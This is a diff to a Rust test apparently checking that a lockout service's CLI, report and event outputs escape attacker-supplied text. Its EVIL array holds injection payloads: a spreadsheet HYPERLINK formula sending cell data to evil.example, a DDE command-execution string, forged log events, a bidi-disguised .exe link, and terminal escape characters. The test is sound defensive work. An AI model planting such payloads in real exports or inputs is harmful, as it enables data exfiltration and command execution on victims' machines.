@@ -8,7 +8,7 @@ use crate::support::{Address, Rig, keys, wait};
 
 /// A formula, a line that looks like an event, colours and a title for the terminal, HTML, Markdown, and text that runs
 /// backwards.
-const EVIL: [&str; 8] = [
+const EVIL: [&str; 11] = [
     "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
     "\n{\"type\":\"admin.unlock\",\"actor\":\"ops\"}",
     "ann\n{\"type\":\"admin.unlock\"}\n",
@@ -17,6 +17,9 @@ const EVIL: [&str; 8] = [
     "a|b\r\n## Forged heading",
     "[link](http://evil.example)\u{202e}fdp.exe",
     "+1+cmd|' /C calc'!A0",
+    "@SUM(A1)",
+    "-2+3",
+    "\u{301}x\u{9b}31m\u{200b}\u{feff}\u{e0001}",
 ];
 
 /// What of it may be a subject: one line.
@@ -47,22 +50,19 @@ async fn nothing_that_foreigners_write_does_anything_anywhere() {
         let body = json!({"subject": subject, "ip": "203.0.113.5", "user_agent": text, "device_id": "d"});
         rig.client.send_body(body).await.refused(429, "subject_locked");
     }
-    // A lockout of each is listed in the review.
+    // And a lockout of each.
     for subject in &all_subjects {
         super::unlock(&rig.sidecar, subject).await.is(200);
         rig.lock_out(subject).await;
     }
     let all = || async {
-        let report = admin(&rig.sidecar).get("/admin/v1/report?since=1h").await.is(200).body;
-        let named =
-            report["locked_out"]["subjects"].as_array()?.iter().filter(|one| one["subject"].is_string()).count();
-        (named == EVIL.len() && report["acts_total"] == 2 * EVIL.len()).then_some(())
+        let page = admin(&rig.sidecar).get("/admin/v1/events?limit=1000&type=lockout").await.is(200).body;
+        (page["events"].as_array()?.len() == EVIL.len()).then_some(())
     };
     wait::until_async("all of it", SOON, all).await;
 
     let mut outputs = vec![run(&rig, &["locks"]), run(&rig, &["events", "--limit", "1000"]), run(&rig, &["stats"])];
-    let report = run(&rig, &["report", "--since", "1h"]);
-    outputs.push(report.clone());
+    outputs.push(run(&rig, &["report", "--since", "1h"]));
     for subject in &all_subjects {
         outputs.push(run(&rig, &["inspect", "--tenant", "shop", "--", subject]));
     }
@@ -76,13 +76,9 @@ async fn nothing_that_foreigners_write_does_anything_anywhere() {
             assert!(!line.starts_with("## Forged"), "{line}");
         }
     }
-    assert!(outputs[0].contains("'=HYPERLINK") && outputs[0].contains("\\u{1b}[31mred"), "{}", outputs[0]);
-    // In Markdown each stands in a code span of its own cell: as many pipes that end a cell as in the head.
-    for line in report.lines().filter(|line| line.starts_with("| `") && line.contains("`shop`")) {
-        let pipes = line.matches('|').count() - line.matches("\\|").count();
-        assert_eq!(pipes, 6, "{line}");
+    for shown in ["'=HYPERLINK", "\\u{1b}[31mred", "'@SUM", "'-2+3", "\\u{301}x\\u{9b}31m\\u{200b}\\u{feff}"] {
+        assert!(outputs[0].contains(shown), "{shown}: {}", outputs[0]);
     }
-    assert!(!report.contains("| <script>") && !report.contains("| [link]"), "{report}");
 
     // For programs they are JSON strings, and so they are in the trail: each line one event.
     let events: Value = serde_json::from_str(&run(&rig, &["events", "--json", "--limit", "1000"])).expect("JSON");
